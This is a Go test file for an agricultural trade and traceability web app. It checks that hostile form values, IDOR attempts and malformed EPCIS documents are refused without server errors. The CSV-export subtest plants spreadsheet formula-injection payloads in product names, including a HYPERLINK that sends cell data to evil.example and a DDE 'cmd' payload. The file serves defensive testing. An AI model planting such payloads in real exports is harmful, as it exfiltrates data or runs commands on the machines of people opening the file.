package web_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"ocop/internal/account"
	"ocop/internal/apptest"
	"ocop/internal/registry"
)

// reviewWorld is one set of fixtures shared by every subtest of
// TestReviewHostile: two producers in commune 00577 with a certified
// product each and their accounts, a verified buyer with an open demand,
// a second verified buyer, an office user, a commune officer, a livestream
// event (capacity 2) on which producer A is registered, and a lot of
// producer A.
type reviewWorld struct {
	e                   *apptest.Env
	a, b                registry.Producer
	prodA, prodB        registry.Product
	ua, ub              *apptest.Client
	buyer, buyer2       *apptest.Client
	office, commune     *apptest.Client
	demand, event, lead string // page paths
	regA                string // registration id of A
	lotA, areaA         string // trace page paths of A's lot and area
	course, programme   string // ids
}

func newReviewWorld(t *testing.T, e *apptest.Env) *reviewWorld {
	t.Helper()
	w := &reviewWorld{e: e}
	w.a, w.prodA = longanProducer(t, e, "HTX Review A", 4, 21.03, 105.85)
	w.b, w.prodB = longanProducer(t, e, "HTX Review B", 4, 21.03, 105.85)
	w.ua, w.ub = e.Session(e.ProducerUser(w.a.ID)), e.Session(e.ProducerUser(w.b.ID))
	w.buyer = e.Session(tradeBuyer(t, e, "AEON Review", true))
	w.buyer2 = e.Session(tradeBuyer(t, e, "WinMart Review", true))
	w.office = e.Session(e.User(account.RoleOffice))
	w.commune = e.Session(e.User(account.RoleCommune, "00577"))

	r := w.buyer.PostForm("/admin/trade/demands", longanDemand())
	if r.Status != http.StatusSeeOther {
		t.Fatalf("demand: %d\n%s", r.Status, r.Body)
	}
	w.demand = "/admin/trade/demands/" + lastID(t, r.Location())
	r = w.buyer.PostForm(w.demand+"/contact", url.Values{"producer_id": {itoa(w.a.ID)}, "message": {"Chào HTX, cần 2 tấn/tháng."}})
	if r.Status != http.StatusSeeOther {
		t.Fatalf("contact: %d\n%s", r.Status, r.Body)
	}
	w.lead = "/admin/trade/leads/" + lastID(t, r.Location())

	ev := choDem()
	ev.Set("repeat", "0")
	r = w.office.PostForm("/admin/trade/events", ev)
	if r.Status != http.StatusSeeOther {
		t.Fatalf("event: %d\n%s", r.Status, r.Body)
	}
	w.event = "/admin/trade/events/" + lastID(t, r.Location())
	if r := w.ua.PostForm(w.event+"/register", url.Values{"booths": {"1"}}); r.Status != http.StatusSeeOther {
		t.Fatalf("register: %d\n%s", r.Status, r.Body)
	}
	if err := e.App.DB.QueryRowContext(e.Ctx(), "SELECT CAST(id AS TEXT) FROM trade_registrations WHERE producer_id = ?", w.a.ID).Scan(&w.regA); err != nil {
		t.Fatal(err)
	}

	w.course = lastID(t, postOKReview(t, w.office, "/admin/trade/courses", url.Values{"topic": {"sales"}, "title": {"Bán hàng online"},
		"starts_at": {"2026-12-01T08:00"}, "capacity": {"10"}}))
	w.programme = lastID(t, postOKReview(t, w.office, "/admin/trade/programmes", url.Values{"kind": {"stamps"}, "name": {"Hỗ trợ tem"},
		"year": {"2026"}, "budget_vnd": {"1000000"}}))
	w.areaA = postOKReview(t, w.ua, "/trace/areas", url.Values{"name": {"Vườn nhãn A"}, "hectares": {"2"}})
	w.lotA = postOKReview(t, w.ua, "/trace/lots", url.Values{"product_id": {itoa(w.prodA.ID)}, "code": {"RA1"}, "produced_on": {"2026-11-20"},
		"quantity": {"10"}, "unit": {"kg"}})
	return w
}

// reviewAuditCount counts audit rows: a refused request writes none.
func reviewAuditCount(t *testing.T, e *apptest.Env) int {
	t.Helper()
	var n int
	if err := e.App.DB.QueryRowContext(e.Ctx(), "SELECT COUNT(*) FROM audit_log").Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// reviewUser is a new account verified for the producer (sessions of
// the fixtures expire when the clock moves on).
func reviewUser(t *testing.T, e *apptest.Env, producerID int64) string {
	t.Helper()
	return e.ProducerUser(producerID)
}

func postOKReview(t *testing.T, c *apptest.Client, path string, form url.Values) string {
	t.Helper()
	r := c.PostForm(path, form)
	if r.Status != http.StatusSeeOther {
		t.Fatalf("POST %s: %d\n%s", path, r.Status, r.Body)
	}
	return r.Location()
}

// with returns a copy of f with the fields set.
func with(f url.Values, kv ...string) url.Values {
	out := url.Values{}
	for k, v := range f {
		out[k] = append([]string(nil), v...)
	}
	for i := 0; i+1 < len(kv); i += 2 {
		out.Set(kv[i], kv[i+1])
	}
	return out
}

// TestReviewHostile is the outsider's, producer's, commune officer's and
// buyer's attempt to break the trade, market and trace parts: hostile
// numbers and text never give a 500 nor write half a record, and nobody
// changes what is not theirs.
func TestReviewHostile(t *testing.T) {
	apptest.Each(t, func(t *testing.T, e *apptest.Env) {
		w := newReviewWorld(t, e)

		t.Run("probe", func(t *testing.T) {
			type probe struct {
				name string
				c    *apptest.Client
				path string
				form url.Values
			}
			nul, bad := "a\x00b", "a\xff\xfeb"
			probes := []probe{
				{"demand quantity inf", w.buyer, "/admin/trade/demands", with(longanDemand(), "quantity", "inf")},
				{"demand quantity Infinity", w.buyer, "/admin/trade/demands", with(longanDemand(), "quantity", "+Infinity")},
				{"demand title NUL", w.buyer, "/admin/trade/demands", with(longanDemand(), "title", nul)},
				{"demand title bad utf8", w.buyer, "/admin/trade/demands", with(longanDemand(), "title", bad)},
				{"demand lat NaN", w.buyer, "/admin/trade/demands", with(longanDemand(), "delivery_lat", "NaN")},
				{"demand min_star huge", w.buyer, "/admin/trade/demands", with(longanDemand(), "min_star", "99999999999")},
				{"demand update version huge", w.buyer, w.demand, with(longanDemand(), "version", "3000000000")},
				{"offer capacity inf", w.ua, "/admin/trade/offers", url.Values{"producer_id": {itoa(w.a.ID)}, "title": {"x"}, "category_code": {"I.3.c"},
					"capacity": {"inf"}, "unit": {"kg"}, "frequency": {"monthly"}}},
				{"offer title NUL", w.ua, "/admin/trade/offers", url.Values{"producer_id": {itoa(w.a.ID)}, "title": {nul}, "category_code": {"I.3.c"},
					"capacity": {"1"}, "unit": {"kg"}, "frequency": {"monthly"}}},
				{"offer product huge id", w.ua, "/admin/trade/offers", url.Values{"producer_id": {itoa(w.a.ID)}, "title": {"x"}, "product_id": {"9223372036854775807"},
					"capacity": {"1"}, "unit": {"kg"}, "frequency": {"monthly"}}},
				{"contact NUL", w.buyer, w.demand + "/contact", url.Values{"producer_id": {itoa(w.b.ID)}, "message": {nul}}},
				{"contact bad utf8", w.buyer, w.demand + "/contact", url.Values{"producer_id": {itoa(w.b.ID)}, "message": {bad}}},
				{"reply NUL", w.ua, w.lead + "/reply", url.Values{"message": {nul}, "version": {"1"}}},
				{"reply version huge", w.ua, w.lead + "/reply", url.Values{"message": {"x"}, "version": {"3000000000"}}},
				{"report NUL", w.ua, w.lead + "/report", url.Values{"reason": {"spam"}, "note": {nul}}},
				{"event title NUL", w.office, "/admin/trade/events", with(choDem(), "title", nul)},
				{"event year 0", w.office, "/admin/trade/events", with(choDem(), "starts_at", "0000-01-01T00:00", "ends_at", "0000-01-02T00:00", "registration_deadline", "0000-01-01T00:00")},
				{"event year 9999", w.office, "/admin/trade/events", with(choDem(), "starts_at", "9999-12-30T00:00", "ends_at", "9999-12-31T23:59", "registration_deadline", "9999-12-29T00:00", "repeat", "52")},
				{"event capacity huge", w.office, "/admin/trade/events", with(choDem(), "booth_capacity", "99999999999")},
				{"event update version huge", w.office, w.event, with(choDem(), "version", "3000000000")},
				{"register note NUL", w.ub, w.event + "/register", url.Values{"booths": {"1"}, "note": {nul}}},
				{"register booths huge", w.ub, w.event + "/register", url.Values{"booths": {"99999999999"}}},
				{"decide version huge", w.office, "/admin/trade/registrations/" + w.regA + "/decide", url.Values{"decision": {"approve"}, "booth_label": {"L1"}, "version": {"3000000000"}}},
				{"decide booth NUL", w.office, "/admin/trade/registrations/" + w.regA + "/decide", url.Values{"decision": {"approve"}, "booth_label": {nul}, "version": {"1"}}},
				{"slot huge product", w.office, w.event + "/slots", url.Values{"producer_id": {itoa(w.a.ID)}, "starts_at": {"2026-11-27T19:00"}, "ends_at": {"2026-11-27T19:30"},
					"link": {"https://live.example.vn/a"}, "product_ids": {"99999999999999999999,9223372036854775807"}}},
				{"programme name NUL", w.office, "/admin/trade/programmes", url.Values{"kind": {"stamps"}, "name": {nul}, "year": {"2026"}, "budget_vnd": {"1000"}}},
				{"programme budget max", w.office, "/admin/trade/programmes", url.Values{"kind": {"stamps"}, "name": {"Max"}, "year": {"2026"}, "budget_vnd": {"9223372036854775807"}}},
				{"course title NUL", w.office, "/admin/trade/courses", url.Values{"topic": {"sales"}, "title": {nul}, "starts_at": {"2026-12-01T08:00"}, "capacity": {"10"}}},
				{"course year 0", w.office, "/admin/trade/courses", url.Values{"topic": {"sales"}, "title": {"x"}, "starts_at": {"0000-01-01T08:00"}, "capacity": {"10"}}},
				{"area lat NaN", w.ua, "/trace/areas", url.Values{"name": {"NaN"}, "latitude": {"NaN"}, "longitude": {"105"}}},
				{"area name NUL", w.ua, "/trace/areas", url.Values{"name": {nul}}},
				{"area name bad utf8", w.ua, "/trace/areas", url.Values{"name": {bad}}},
				{"area hectares inf", w.ua, "/trace/areas", url.Values{"name": {"inf"}, "hectares": {"inf"}}},
				{"lot note NUL", w.ua, "/trace/lots", url.Values{"product_id": {itoa(w.prodA.ID)}, "code": {"RA2"}, "produced_on": {"2026-11-20"}, "unit": {"kg"}, "note": {nul}}},
				{"lot year 0", w.ua, "/trace/lots", url.Values{"product_id": {itoa(w.prodA.ID)}, "code": {"RA3"}, "produced_on": {"0000-01-01"}, "unit": {"kg"}}},
				{"lot date 0000-00-00", w.ua, "/trace/lots", url.Values{"product_id": {itoa(w.prodA.ID)}, "code": {"RA4"}, "produced_on": {"0000-00-00"}, "unit": {"kg"}}},
				{"lot quantity inf", w.ua, "/trace/lots", url.Values{"product_id": {itoa(w.prodA.ID)}, "code": {"RA5"}, "produced_on": {"2026-11-20"}, "unit": {"kg"}, "quantity": {"inf"}}},
				{"event qty NaN", w.ua, w.lotA + "/events", url.Values{"step": {"packing"}, "time": {"2026-11-21T08:00"}, "quantity": {"NaN"}}},
				{"event qty inf", w.ua, w.lotA + "/events", url.Values{"step": {"packing"}, "time": {"2026-11-21T08:00"}, "quantity": {"inf"}}},
				{"event place NUL", w.ua, w.lotA + "/events", url.Values{"step": {"shipping"}, "time": {"2026-11-21T08:00"}, "place": {nul}}},
				{"event year 9999", w.ua, w.lotA + "/events", url.Values{"step": {"packing"}, "time": {"9999-12-31T23:59"}}},
				{"recall NUL", w.ua, w.lotA + "/recall", url.Values{"reason": {nul}, "version": {"1"}}},
				{"recall version huge", w.ua, w.lotA + "/recall", url.Values{"reason": {"x"}, "version": {"3000000000"}}},
				{"storefront price huge", w.ua, "/admin/products/" + itoa(w.prodA.ID) + "/storefronts", url.Values{"marketplace": {"shopee"}, "url": {"https://shopee.vn/x"}, "price_vnd": {"99999999999999999999"}}},
				{"cert number NUL", w.ua, "/admin/products/" + itoa(w.prodA.ID) + "/certifications", url.Values{"kind": {"haccp"}, "number": {nul}, "issuer": {"x"}, "valid_from": {"2026-01-01"}}},
				{"cert year 0", w.ua, "/admin/products/" + itoa(w.prodA.ID) + "/certifications", url.Values{"kind": {"haccp"}, "number": {"1"}, "issuer": {"x"}, "valid_from": {"0000-00-00"}}},
			}
			for _, p := range probes {
				r := p.c.PostForm(p.path, p.form)
				if r.Status < 400 || r.Status >= 500 {
					t.Errorf("%s: POST %s: %d, want 4xx", p.name, p.path, r.Status)
				}
			}
			for _, path := range []string{"/events", "/events.ics", "/admin/trade/board", "/admin/trade/events", "/admin/trade/programmes", "/admin/trade/courses",
				"/events/abc", "/events/99999999999999999999", "/events/-1", "/admin/trade/leads?state=%00", "/trace", "/feeds/marketplace.csv", "/open-data/products.csv",
				"/feeds/merchant.xml", "/open-data/products.json", "/admin/trade/demands", "/admin/trade/offers"} {
				for _, c := range []*apptest.Client{w.office, w.ua, e.Anon()} {
					if r := c.Get(path); r.Status >= 500 {
						t.Errorf("GET %s: %d", path, r.Status)
					}
				}
			}
		})

		// Nobody changes what is not theirs: another producer's id in the
		// path or the form, a buyer on another buyer's demand and lead,
		// the commune officer and the office on the parties' lead.
		t.Run("idor", func(t *testing.T) {
			prodA := "/admin/products/" + itoa(w.prodA.ID)
			for _, tt := range []struct {
				name string
				c    *apptest.Client
				path string
				form url.Values
			}{
				{"B registers A", w.ub, w.event + "/register", url.Values{"producer_id": {itoa(w.a.ID)}, "booths": {"1"}}},
				{"B reports A's outcome", w.ub, "/admin/trade/registrations/" + w.regA + "/outcome", url.Values{"sales_vnd": {"1"}}},
				{"A decides its own registration", w.ua, "/admin/trade/registrations/" + w.regA + "/decide", url.Values{"decision": {"approve"}, "booth_label": {"A1"}, "version": {"1"}}},
				{"B registers A for a course", w.ub, "/admin/trade/courses/" + w.course + "/register", url.Values{"producer_id": {itoa(w.a.ID)}}},
				{"B adds an event to A's lot", w.ub, w.lotA + "/events", url.Values{"step": {"packing"}, "time": {"2026-11-21T08:00"}}},
				{"B recalls A's lot", w.ub, w.lotA + "/recall", url.Values{"reason": {"x"}, "version": {"1"}}},
				{"B edits A's lot", w.ub, w.lotA, url.Values{"product_id": {itoa(w.prodA.ID)}, "code": {"RA1"}, "produced_on": {"2026-11-20"}, "unit": {"kg"}, "version": {"1"}}},
				{"B edits A's area", w.ub, w.areaA, url.Values{"name": {"x"}, "version": {"1"}}},
				{"B creates an area for A", w.ub, "/trace/areas", url.Values{"producer_id": {itoa(w.a.ID)}, "name": {"x"}}},
				{"B creates a lot of A's product", w.ub, "/trace/lots", url.Values{"product_id": {itoa(w.prodA.ID)}, "code": {"B1"}, "produced_on": {"2026-11-20"}, "unit": {"kg"}}},
				{"B links a storefront to A's product", w.ub, prodA + "/storefronts", url.Values{"marketplace": {"shopee"}, "url": {"https://shopee.vn/b"}}},
				{"B records a certification of A's product", w.ub, prodA + "/certifications", url.Values{"kind": {"haccp"}, "number": {"1"}, "issuer": {"x"}, "valid_from": {"2026-01-01"}}},
				{"B writes on A's lead", w.ub, w.lead + "/reply", url.Values{"message": {"x"}, "version": {"1"}}},
				{"B reports A's buyer", w.ub, w.lead + "/report", url.Values{"reason": {"spam"}}},
				{"buyer2 contacts from buyer's demand", w.buyer2, w.demand + "/contact", url.Values{"producer_id": {itoa(w.b.ID)}, "message": {"x"}}},
				{"buyer2 edits buyer's demand", w.buyer2, w.demand, with(longanDemand(), "version", "1")},
				{"buyer2 writes on buyer's lead", w.buyer2, w.lead + "/reply", url.Values{"message": {"x"}, "version": {"1"}}},
				{"commune officer writes on the lead", w.commune, w.lead + "/reply", url.Values{"message": {"x"}, "version": {"1"}}},
				{"office writes on the lead", w.office, w.lead + "/reply", url.Values{"message": {"x"}, "version": {"1"}}},
				{"buyer creates an event", w.buyer, "/admin/trade/events", choDem()},
				{"producer creates a programme", w.ua, "/admin/trade/programmes", url.Values{"kind": {"stamps"}, "name": {"x"}, "year": {"2026"}, "budget_vnd": {"1000"}}},
				{"commune officer grants support", w.commune, "/admin/trade/programmes/" + w.programme + "/grants", url.Values{"producer_id": {itoa(w.a.ID)}, "amount_vnd": {"1"}}},
			} {
				before := reviewAuditCount(t, e)
				r := tt.c.PostForm(tt.path, tt.form)
				if r.Status < 400 || r.Status >= 500 {
					t.Errorf("%s: POST %s: %d, want 4xx", tt.name, tt.path, r.Status)
				}
				if n := reviewAuditCount(t, e); n != before {
					t.Errorf("%s: %d audit rows written by a refused request", tt.name, n-before)
				}
			}
			// A's offer cannot name B's product.
			r := w.ua.PostForm("/admin/trade/offers", url.Values{"producer_id": {itoa(w.a.ID)}, "product_id": {itoa(w.prodB.ID)}, "title": {"x"},
				"capacity": {"1"}, "unit": {"kg"}, "frequency": {"monthly"}})
			if r.Status != http.StatusUnprocessableEntity {
				t.Errorf("A's offer of B's product: %d", r.Status)
			}
			// Anonymous writes go to the sign-in page.
			if r := e.Anon().PostForm(w.event+"/register", url.Values{"booths": {"1"}}); r.Status != http.StatusSeeOther || r.Location() == "" ||
				r.Location()[:6] != "/login" {
				t.Errorf("anonymous registration: %d %q", r.Status, r.Location())
			}
		})

		// The registration state machine: a rejected registration approved
		// again must still fit the capacity; outcomes are bounded.
		t.Run("registrations", func(t *testing.T) {
			dec := "/admin/trade/registrations/" + w.regA + "/decide"
			if r := w.office.PostForm(dec, url.Values{"decision": {"reject"}, "version": {"1"}}); r.Status != http.StatusSeeOther {
				t.Fatalf("reject A: %d\n%s", r.Status, r.Body)
			}
			if r := w.ub.PostForm(w.event+"/register", url.Values{"booths": {"2"}}); r.Status != http.StatusSeeOther {
				t.Fatalf("B takes both places: %d\n%s", r.Status, r.Body)
			}
			if r := w.office.PostForm(dec, url.Values{"decision": {"approve"}, "booth_label": {"L1"}, "version": {"2"}}); r.Status != http.StatusUnprocessableEntity {
				t.Errorf("approving rejected A over capacity: %d, want 422", r.Status)
			}
			var taken int
			if err := e.App.DB.QueryRowContext(e.Ctx(), "SELECT COALESCE(SUM(booths), 0) FROM trade_registrations WHERE status IN ('pending', 'approved')").Scan(&taken); err != nil {
				t.Fatal(err)
			}
			if taken > 2 {
				t.Errorf("%d places taken of 2", taken)
			}
			var regB string
			if err := e.App.DB.QueryRowContext(e.Ctx(), "SELECT CAST(id AS TEXT) FROM trade_registrations WHERE producer_id = ?", w.b.ID).Scan(&regB); err != nil {
				t.Fatal(err)
			}
			if r := w.office.PostForm("/admin/trade/registrations/"+regB+"/decide", url.Values{"decision": {"approve"}, "version": {"1"}}); r.Status != http.StatusSeeOther {
				t.Fatalf("approve B: %d\n%s", r.Status, r.Body)
			}
			out := "/admin/trade/registrations/" + regB + "/outcome"
			if r := w.ub.PostForm(out, url.Values{"sales_vnd": {"1000"}}); r.Status != http.StatusUnprocessableEntity {
				t.Errorf("outcome before the event: %d", r.Status)
			}
			e.Clock.Advance(6 * 24 * time.Hour)
			ub, office := e.Session(reviewUser(t, e, w.b.ID)), e.Session(e.User(account.RoleOffice))
			for _, f := range []url.Values{
				{"sales_vnd": {"9223372036854775807"}}, {"sales_vnd": {"99999999999999999999"}}, {"contacts": {"3000000000"}},
				{"orders": {"99999999999"}}, {"contacts": {"-1"}},
			} {
				if r := ub.PostForm(out, f); r.Status != http.StatusUnprocessableEntity {
					t.Errorf("outcome %v: %d, want 422", f, r.Status)
				}
			}
			if r := ub.PostForm(out, url.Values{"sales_vnd": {"1.000.000.000.000.000"}, "contacts": {"1000000"}, "orders": {"1000000"}}); r.Status != http.StatusSeeOther {
				t.Errorf("largest outcome: %d\n%s", r.Status, r.Body)
			}
			if r := office.Get("/admin/trade/board"); r.Status != http.StatusOK {
				t.Errorf("board: %d", r.Status)
			}
			if r := office.PostForm("/admin/trade/programmes", url.Values{"kind": {"stamps"}, "name": {"Max"}, "year": {"2026"}, "budget_vnd": {"9223372036854775807"}}); r.Status != http.StatusUnprocessableEntity {
				t.Errorf("budget of 9.2e18 đồng: %d, want 422", r.Status)
			}
		})

		// A producer's product named as a spreadsheet formula is exported
		// as text in the CSV feeds anyone downloads and opens in Excel.
		t.Run("csv formulas", func(t *testing.T) {
			evil := `=HYPERLINK("http://evil.example/?x="&A1,"OCOP")`
			if _, err := e.App.DB.ExecContext(e.Ctx(), "UPDATE products SET name = ?, name_en = ?, brand = ?, description = ? WHERE id = ?",
				evil, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", w.prodA.ID); err != nil {
				t.Fatal(err)
			}
			if _, err := e.App.DB.ExecContext(e.Ctx(), "UPDATE producers SET name = ? WHERE id = ?", "=1+1", w.a.ID); err != nil {
				t.Fatal(err)
			}
			for _, path := range []string{"/feeds/marketplace.csv", "/open-data/products.csv"} {
				r := e.Anon().Get(path)
				if r.Status != http.StatusOK {
					t.Fatalf("GET %s: %d", path, r.Status)
				}
				rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
				if err != nil {
					t.Fatalf("%s: %v", path, err)
				}
				found := false
				for _, row := range rows {
					for _, cell := range row {
						if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
							t.Errorf("%s: cell %q starts a formula", path, cell)
						}
						found = found || cell == "'"+evil
					}
				}
				if !found {
					t.Errorf("%s: the product's name is missing:\n%s", path, r.Body)
				}
			}
		})

		t.Run("epcis", func(t *testing.T) {
			tok := e.Token(e.ProducerUser(w.a.ID))
			var code string
			if err := e.App.DB.QueryRowContext(e.Ctx(), "SELECT code FROM products WHERE id = ?", w.prodA.ID).Scan(&code); err != nil {
				t.Fatal(err)
			}
			lot := "urn:ocop:lot:" + code + ":RA1"
			for name, doc := range map[string]string{
				"NUL in extension": epcisDoc(`{"type": "ObjectEvent", "eventTime": "2026-11-21T08:00:00Z", "eventTimeZoneOffset": "+07:00", "action": "OBSERVE",
					"epcList": ["` + lot + `"], "example:note": "a\u0000b"}`),
				"NUL in readPoint": epcisDoc(`{"type": "ObjectEvent", "eventTime": "2026-11-21T08:00:00Z", "eventTimeZoneOffset": "+07:00", "action": "OBSERVE",
					"epcList": ["` + lot + `"], "readPoint": {"id": "urn:x:\u0000"}}`),
				"NUL in EPC": epcisDoc(`{"type": "ObjectEvent", "eventTime": "2026-11-21T08:00:00Z", "eventTimeZoneOffset": "+07:00", "action": "OBSERVE",
					"epcList": ["urn:ocop:lot:\u0000"]}`),
				"year 9999": epcisDoc(`{"type": "ObjectEvent", "eventTime": "9999-12-31T23:59:59-12:00", "eventTimeZoneOffset": "-12:00", "action": "OBSERVE",
					"epcList": ["` + lot + `"]}`),
				"year 0": epcisDoc(`{"type": "ObjectEvent", "eventTime": "0000-01-01T00:00:00Z", "eventTimeZoneOffset": "+00:00", "action": "OBSERVE",
					"epcList": ["` + lot + `"]}`),
				"quantity huge": epcisDoc(`{"type": "ObjectEvent", "eventTime": "2026-11-21T08:00:00Z", "eventTimeZoneOffset": "+07:00", "action": "OBSERVE",
					"quantityList": [{"epcClass": "` + lot + `", "quantity": 1e308, "uom": "KGM"}]}`),
			} {
				if r := e.API("POST", "/api/v1/epcis/capture", tok, doc); r.Status >= 500 {
					t.Errorf("capture %s: %d %s", name, r.Status, r.Body)
				}
			}
			for _, q := range []string{"MATCH_epc=%00", "MATCH_epc=%FF", "EQ_bizStep=%00", "eventType=%00", "GE_eventTime=0000-01-01T00:00:00Z",
				"LT_eventTime=9999-12-31T23:59:59-23:00", "nextPageToken=99999999999999999999", "lot=9223372036854775807"} {
				if r := e.API("GET", "/api/v1/epcis/events?"+q, tok, nil); r.Status >= 500 {
					t.Errorf("query %s: %d %s", q, r.Status, r.Body)
				}
			}
		})
	})
}

// TestReviewSalePointForm: a sale point form with a version beyond
// INTEGER or a name that is not UTF-8 is refused, never a 500.
func TestReviewSalePointForm(t *testing.T) {
	apptest.Each(t, func(t *testing.T, e *apptest.Env) {
		sp := mustSalePoint(t, e, "Điểm X", "00008", 21.03, 105.85)
		office := e.Session(e.User(account.RoleOffice))
		for _, f := range []url.Values{with(pointForm(), "version", "3000000000"), with(pointForm(), "name", "a\xffb", "version", "1")} {
			if r := office.PostForm("/admin/sale-points/"+itoa(sp.ID), f); r.Status < 400 || r.Status >= 500 {
				t.Errorf("POST sale point %v: %d, want 4xx", f, r.Status)
			}
		}
	})
}
